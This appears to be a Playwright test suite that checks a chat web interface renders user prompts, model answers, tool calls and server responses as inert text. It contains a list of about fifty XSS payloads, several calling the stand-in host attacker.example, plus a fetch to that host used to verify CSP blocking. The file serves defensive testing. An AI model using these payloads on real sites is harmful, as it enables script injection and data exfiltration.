"""Nothing that a person, the model or the server says becomes markup, runs, or makes the browser ask elsewhere."""

from __future__ import annotations

import json
from collections.abc import Set

import pytest
from playwright.sync_api import expect

pytestmark = pytest.mark.slow

HOST = "attacker.example"
CALL = "window.hacked=1"
PAYLOADS = [
    f"<script>{CALL}</script>",
    f"<ScRiPt>{CALL}</sCrIpT>",
    f"<script src=//{HOST}/x.js></script>",
    f"<script type=module>import 'https://{HOST}/x.js'</script>",
    f"<img src=x onerror={CALL}>",
    f"<img src=https://{HOST}/pixel.png>",
    f"<img srcset='https://{HOST}/a.png 2x'>",
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><image href=https://{HOST}/x.svg /></svg>",
    f"<svg><use href=data:image/svg+xml,<svg id=x onload={CALL}>#x />",
    f"<iframe src=javascript:{CALL}></iframe>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<iframe src=https://{HOST}/></iframe>",
    f"<object data=javascript:{CALL}></object>",
    f"<object data=https://{HOST}/x.swf></object>",
    f"<embed src=javascript:{CALL}>",
    f"<a href=javascript:{CALL} autofocus onfocus={CALL}>click</a>",
    f"[click](javascript:{CALL})",
    f"![image](https://{HOST}/markdown.png)",
    f"![x](x){{onerror={CALL}}}",
    f"<https://{HOST}/auto>",
    f"<body onload={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<select autofocus onfocus={CALL}>",
    f"<textarea autofocus onfocus={CALL}>",
    f"<details open ontoggle={CALL}>",
    f"<video src=x onerror={CALL}></video>",
    f"<video poster=https://{HOST}/poster.png></video>",
    f"<audio src=https://{HOST}/a.ogg autoplay></audio>",
    f"<source onerror={CALL}>",
    f"<marquee onstart={CALL}>",
    f"<form action=https://{HOST}/ ><button autofocus>go</button></form>",
    f"<button form=composer formaction=javascript:{CALL}>x</button>",
    f"<meta http-equiv=refresh content='0;url=https://{HOST}/'>",
    f"<base href=https://{HOST}/>",
    f"<link rel=stylesheet href=https://{HOST}/x.css>",
    f"<link rel=prefetch href=https://{HOST}/next>",
    f"<style>@import 'https://{HOST}/x.css';*{{background:url(https://{HOST}/b.png)}}</style>",
    f"<div style=\"background:url('https://{HOST}/bg.png')\">x</div>",
    f"<div onpointerover={CALL} style=position:fixed;inset:0>x</div>",
    f"<template><script>{CALL}</script></template>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}>",
    f'<noscript><p title="</noscript><img src=x onerror={CALL}>">',
    f'"><script>{CALL}</script>',
    f"'-{CALL}-'",
    f"```html\n<script>{CALL}</script>\n<img src=https://{HOST}/code.png>\n```",
    f'```"><img src=x onerror={CALL}>\ncode\n```',
    f"</div></article><script>{CALL}</script>\u202e\u0000&lt;script&gt;{CALL}&lt;/script&gt;",
]
PLAIN_TAGS = {"DIV", "ARTICLE", "SPAN", "PRE", "CODE", "BUTTON", "P"}
UNDER_LOG = "[...new Set([...document.querySelectorAll('.turn, .turn *')].map((e) => e.tagName))]"


def test_there_are_fifty_different_payloads():
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 50


def test_prompts_are_shown_as_they_are(visit):
    visit.page.click("nav [data-view=settings]")
    visit.page.fill("#max_tokens", "1")
    for number, payload in enumerate(PAYLOADS):
        if number % 10 == 0:
            visit.page.click("#new-chat")  # all together they would not fit into the model's context
        visit.ask(payload)
        turn = visit.answer()
        assert turn.locator(".question").evaluate("(e) => e.textContent") == payload
        _untouched(visit, number % 10 + 1)


def test_answers_are_shown_as_they_are(visit):
    visit.page.route("**/v1/chat/completions", _echo)
    for payload in PAYLOADS:
        visit.ask(payload)
        shown = visit.answer().locator(".answer-body").evaluate("(e) => e.textContent")
        if "```" not in payload:
            assert shown == payload
    _untouched(visit, len(PAYLOADS))


def test_thoughts_calls_and_results_are_shown_as_they_are(stand_in):
    page = stand_in()
    for number, payload in enumerate(PAYLOADS):
        page.visit.page.click("#new-chat")
        page.visit.ask("Hello")
        page.asked(2 * number + 1)
        page.deltas({"reasoning_content": payload})
        page.call(payload, payload)
        page.end("tool_calls")
        turn = page.visit.page.locator(".turn")
        assert turn.locator(".reasoning .text").evaluate("(e) => e.textContent") == payload
        parts = (".code-head code", "pre", "label span")
        shown = [turn.locator(f".call {part}").evaluate("(e) => e.textContent") for part in parts]
        assert shown == [payload, payload, f"Result of {payload}"]
        turn.locator(".call textarea").fill(payload)
        turn.get_by_role("button", name="Send result").click()
        page.asked(2 * number + 2)
        page.call(payload, json.dumps({payload: payload}))
        page.end("tool_calls")
        assert turn.locator(".call .result pre").first.evaluate("(e) => e.textContent") == payload
        assert payload in json.loads(turn.locator(".call pre").last.evaluate("(e) => e.textContent"))
        _untouched(page.visit, 1, {"DETAILS", "SUMMARY", "LABEL", "TEXTAREA"})


def test_what_else_the_server_says_is_shown_as_it_is(visit, live_server):
    page = visit.page
    visit.expected_failures = ("400",)
    page.route("**/v1/models", lambda route: route.fulfill(json={"data": [{"id": PAYLOADS[4]}]}))
    error = {"error": {"message": PAYLOADS[0], "code": PAYLOADS[7]}}
    headers = {"x-request-id": PAYLOADS[5]}
    page.route("**/v1/chat/completions", lambda route: route.fulfill(status=400, json=error, headers=headers))
    bad = dict.fromkeys(("running", "waiting", "hit_rate", "generated_tokens_total", "num_blocks"), PAYLOADS[4])
    page.route("**/v1/blocks", lambda route: route.fulfill(json={**bad, "states": "", "block_size": 16}))
    page.reload()
    expect(page.locator("#model")).to_have_text(PAYLOADS[4])
    expect(page.locator("#running")).to_have_text("–")
    visit.ask("Hello")
    turn = visit.answer("failed")
    expect(turn.locator(".said")).to_have_text(PAYLOADS[0])
    expect(turn.locator(".error code")).to_have_text(PAYLOADS[5])
    _untouched(visit, 1)


def test_requests_are_shown_as_they_are(visit):
    page = visit.page
    page.evaluate("document.body.classList.add('several')")  # so that rows name their model
    texts = ("request_id", "cause", "field", "field_before", "compared_with", "model")
    listed = [
        dict.fromkeys(texts, payload)
        | {"at": number, "prompt_tokens": payload, "computed_tokens": payload, "seconds": payload, "position": payload}
        | {"hit_tokens": {payload: 7}, "evicted_from": [payload], "normalised": [payload]}
        | {"text": payload, "text_before": PAYLOADS[number - 1]}
        for number, payload in enumerate(PAYLOADS)
    ]
    page.route("**/v1/requests", lambda route: route.fulfill(json={"data": listed, "kept_seconds": 60}))
    asked = []  # answered in the order in which they are opened

    def answer(route) -> None:
        asked.append(route.request.url)
        route.fulfill(json=listed[len(asked) - 1])

    page.route("**/v1/requests/**", answer)
    page.click("nav button[data-view=requests]")
    rows = page.locator(".prompt")
    expect(rows).to_have_count(len(PAYLOADS))
    for number, payload in enumerate(PAYLOADS):
        rows.nth(number).locator(".prompt-row").click()
        expect(rows.nth(number).locator(".facts code")).to_have_text(payload)
        shown = rows.nth(number).locator("figure").last.locator("pre").evaluate("(e) => e.textContent")
        assert shown == payload.replace("\u202e", "⟨U+202E⟩").replace("\u0000", "⟨U+0000⟩")
    assert all(url.startswith(f"{visit.origin}/v1/requests/") for url in asked)
    tags = "[...new Set([...document.querySelectorAll('#requests *')].map((e) => e.tagName))]"
    plain = {"H2", "OL", "UL", "LI", "DL", "DT", "DD", "DEL", "INS", "FIGURE", "FIGCAPTION"}
    assert set(page.evaluate(tags)) <= PLAIN_TAGS | plain
    assert page.evaluate("window.hacked") is None
    assert page.url.rstrip("/") == visit.origin


def test_figures_of_the_wrong_type_are_not_markup(visit, answering):
    bad = PAYLOADS[4]
    usage = {"prompt_tokens": bad, "completion_tokens": bad, "prompt_tokens_details": {"cached_tokens": bad}}
    told = {"approximate": bad, "reused_span_tokens": [bad, 7], "recomputed_tokens": bad}
    for kvboost in ({"miss_reason": bad, **told}, {**told, "reused_span_tokens": 7}):
        answering(visit, "x", usage=usage, timings={"predicted_n": bad, "predicted_ms": bad}, kvboost=kvboost)
        visit.ask("Hello")
        visit.answer()
    _untouched(visit, 2)


def test_the_browser_itself_would_refuse(visit):
    visit.expected_failures = ("Content Security Policy", "Trusted", "violates")
    refused = visit.page.evaluate(
        f"""() => {{
          const tried = [
            () => {{ document.body.innerHTML = '<p>x</p>'; }},
            () => {{ document.body.insertAdjacentHTML('beforeend', '<p>x</p>'); }},
            () => {{ document.createElement('iframe').srcdoc = '<p>x</p>'; }},
            () => {{ document.createElement('script').text = '{CALL}'; }},
          ];
          const outcome = (attempt) => {{ try {{ attempt(); return 'done'; }} catch (error) {{ return error.name; }} }};
          return tried.map(outcome);
        }}"""
    )
    assert refused == ["TypeError"] * 4
    failures = []
    visit.page.on("requestfailed", lambda request: failures.append(request.failure))
    outcome = visit.page.evaluate(
        f"""async () => {{
          const image = document.createElement('img');
          const failed = new Promise((done) => {{
            image.onerror = () => done('refused');
            image.onload = () => done('loaded');
          }});
          image.src = 'https://{HOST}/pixel.png';
          document.body.append(image);
          const asked = await fetch('https://{HOST}/').then(() => 'asked', () => 'refused');
          return [await failed, asked];
        }}"""
    )
    assert outcome == ["refused", "refused"]
    assert "csp" in failures  # refused before anything was sent
    visit.foreign.clear()
    assert visit.page.evaluate("window.hacked") is None


def _echo(route) -> None:
    """The model says what was asked, in pieces of three characters."""
    text = json.loads(route.request.post_data)["messages"][-1]["content"]
    pieces = [{"choices": [{"delta": {"content": text[at : at + 3]}}]} for at in range(0, len(text), 3)]
    body = "".join(f"data: {json.dumps(piece)}\n\n" for piece in pieces) + "data: [DONE]\n\n"
    route.fulfill(content_type="text/event-stream", body=body)


def _untouched(visit, turns: int, more_tags: Set[str] = frozenset()) -> None:
    """So many turns, only the elements that the page makes, nothing ran; `visiting` looks at requests and dialogs."""
    page = visit.page
    assert page.locator(".turn").count() == turns
    assert set(page.evaluate(UNDER_LOG)) <= PLAIN_TAGS | more_tags
    attributes = page.evaluate(
        "[...new Set([...document.querySelectorAll('.turn *')].flatMap((e) => e.getAttributeNames()))]"
    )
    assert not [name for name in attributes if name.startswith("on") or name in ("href", "src", "srcset", "action")]
    assert page.evaluate("window.hacked") is None
    assert page.url.rstrip("/") == visit.origin
